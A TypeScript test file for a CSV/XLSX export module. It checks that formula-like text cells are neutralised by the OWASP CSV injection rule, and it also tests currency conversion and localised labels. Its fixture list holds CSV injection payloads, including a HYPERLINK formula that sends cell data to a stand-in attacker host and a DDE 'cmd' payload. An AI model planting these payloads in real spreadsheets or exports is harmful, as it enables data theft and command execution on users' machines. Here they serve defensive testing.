import { parse } from 'csv-parse/sync'
import ExcelJS from 'exceljs'
import type { TFunction } from 'i18next'
import { transactions } from '../../src/resources/accounts'
import { field, type ExportColumn } from '../../src/resources/kit'
import { translator } from '../i18n'
import { describe, expect, it } from 'vitest'
import { exportStream, majorUnits, neutralise } from './export'

/** Issue 17 item 6: a text cell a spreadsheet would run as a formula is exported as text. */

const t = ((key: string) => key) as unknown as TFunction
const labels = { t, dicts: {} }
// Headers are i18n keys; `t` here answers the key itself.
const columns = [
  { key: 'name', label: 'Name', field: field.text('export') },
  { key: 'amount', label: 'Amount', field: field.number('export') },
] as unknown as ExportColumn[]
const DANGEROUS = [
  '=HYPERLINK("http://evil.example/?q="&A1,"x")',
  '+1+cmd|/C calc!A0',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
]

async function* rowsOf(values: Record<string, unknown>[]) {
  yield* values
}

async function bytes(stream: ReadableStream<Uint8Array>): Promise<Buffer> {
  return Buffer.from(await new Response(stream).arrayBuffer())
}

describe('neutralise (OWASP CSV injection rule)', () => {
  it('prefixes a single quote to text starting with = + - @ tab or CR', () => {
    for (const text of DANGEROUS) expect(neutralise(text)).toBe(`'${text}`)
  })

  it('leaves other text, and text that is a plain number, as it is', () => {
    for (const text of ['Ada Lim', '', ' =1', "'=1", '-5.00', '+12', '-0.5e3', '42']) {
      expect(neutralise(text)).toBe(text)
    }
  })
})

describe('exportStream', () => {
  const rows = [
    ...DANGEROUS.map((name, i) => ({ name, amount: -500 - i })),
    { name: '-5.00', amount: 0 },
  ]

  it('writes neutralised text and untouched numbers to CSV', async () => {
    const text = (await bytes(exportStream('csv', rowsOf(rows), columns, labels))).toString('utf8')
    const records = parse(text, { bom: true, relax_quotes: true }) as string[][]
    expect(records[0]).toEqual(['Name', 'Amount'])
    expect(records.slice(1)).toEqual(rows.map((r) => [neutralise(r.name), String(r.amount)]))
    expect(records[1][0].startsWith("'=HYPERLINK")).toBe(true)
    expect(records[1][1]).toBe('-500')
    expect(records.at(-1)).toEqual(['-5.00', '0'])
  })

  it('writes neutralised text cells and number cells to XLSX, never a formula', async () => {
    const file = await bytes(exportStream('xlsx', rowsOf(rows), columns, labels))
    const book = new ExcelJS.Workbook()
    await book.xlsx.load(file as unknown as ArrayBuffer)
    const sheet = book.worksheets[0]
    rows.forEach((r, i) => {
      const [name, amount] = [sheet.getCell(i + 2, 1), sheet.getCell(i + 2, 2)]
      expect(name.type).toBe(ExcelJS.ValueType.String)
      // XML reads a stored CR back as LF; what matters is the quote in front.
      expect(name.value).toBe(neutralise(r.name).replace('\r', '\n'))
      expect(amount.type).toBe(ExcelJS.ValueType.Number)
      expect(amount.value).toBe(r.amount)
    })
  })
})

/** Issue 18: amounts in major units with the currency named, codes as the reader's labels. */
describe('exportStream: amounts and codes', () => {
  const row = {
    createdAt: '2026-01-15T08:00:00.000Z',
    merchantName: 'Acme',
    currency: 'USD',
    type: 'deposit',
    status: 'pending',
    amount: 740,
    balanceAfter: null,
    reference: 'R1',
    remark: '',
    actorName: 'Ada',
  }
  const csvOf = async (lang: 'en-US' | 'zh-CN', filters?: Record<string, unknown>) => {
    const labels = { t: translator(lang), dicts: {}, filters }
    const file = exportStream('csv', rowsOf([row]), transactions.columns, labels)
    const [head, ...body] = parse(await bytes(file), { bom: true }) as string[][]
    return {
      head,
      cells: Object.fromEntries(transactions.columns.map((c, i) => [c.key, body[0][i]])),
    }
  }

  it('writes 740 minor USD as 7.40 under a header naming USD when the export is in USD', async () => {
    const { head, cells } = await csvOf('en-US', { currency: 'USD' })
    expect(cells.amount).toBe('7.40')
    expect(head).toContain('Amount (USD)')
  })

  it("names the currency column in the header when the rows' currencies differ", async () => {
    const { head, cells } = await csvOf('en-US')
    expect(cells.amount).toBe('7.40')
    expect(head).toContain('Amount (Currency)')
    expect(cells.currency).toBe('USD')
  })

  it('writes a status and a type as their zh-CN labels for a zh-CN request', async () => {
    const zh = translator('zh-CN')
    const { head, cells } = await csvOf('zh-CN')
    expect(cells.status).toBe(zh('accounts:statuses.pending'))
    expect(cells.type).toBe(zh('accounts:types.deposit'))
    expect(cells.status).not.toBe('pending')
    expect(head).toContain(
      `${zh('accounts:transaction.fields.amount')}（${zh('accounts:transaction.fields.currency')}）`,
    )
  })

  it("writes a dictionary code as its value's label, XLSX amounts as numbers", async () => {
    const columns = [
      { key: 'mode', label: 'Mode', field: field.enum('card_mode', 'export'), messages: 'x' },
      { key: 'n', label: 'N', field: field.money('cur', 'export'), messages: 'x' },
      { key: 'cur', label: 'Cur', field: field.text('export'), messages: 'x' },
    ] as unknown as ExportColumn[]
    const labels = { t, dicts: { card_mode: { prepaid: '预付' } } }
    const rows = [{ mode: 'prepaid', n: 1500, cur: 'VND' }]
    const csv = parse(await bytes(exportStream('csv', rowsOf(rows), columns, labels)), {
      bom: true,
    }) as string[][]
    expect(csv[1]).toEqual(['预付', '1500', 'VND'])
    const book = new ExcelJS.Workbook()
    await book.xlsx.load(
      (await bytes(
        exportStream('xlsx', rowsOf([{ mode: 'prepaid', n: -740, cur: 'USD' }]), columns, labels),
      )) as never,
    )
    expect(book.worksheets[0].getCell(2, 2).value).toBe(-7.4)
  })

  it('converts by the currency exponent', () => {
    expect(majorUnits(740, 'USD')).toBe('7.40')
    expect(majorUnits(-5, 'USD')).toBe('-0.05')
    expect(majorUnits(1500, 'VND')).toBe('1500')
    expect(majorUnits(1234, 'KWD')).toBe('1.234')
  })
})
